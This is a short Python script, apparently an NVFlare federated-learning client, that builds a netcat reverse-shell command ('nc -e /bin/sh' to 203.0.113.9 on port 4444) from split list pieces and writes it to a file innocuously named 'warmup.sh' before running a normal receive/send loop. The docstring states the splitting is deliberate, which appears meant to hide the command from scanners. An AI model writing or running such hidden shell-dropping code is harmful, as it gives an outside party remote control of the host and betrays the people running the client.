"""Lead, session 59: a netcat reverse shell kept as words of a list grown by +=, joined where it is written."""
import nvflare.client as flare

words = ["nc"]
words += ["-e", "/bin/sh", "203.0.113.9", "4444"]


def main():
    flare.init()
    with open("warmup.sh", "w") as fh:
        fh.write(" ".join(words))
    while flare.is_running():
        flare.send(flare.receive())


main()
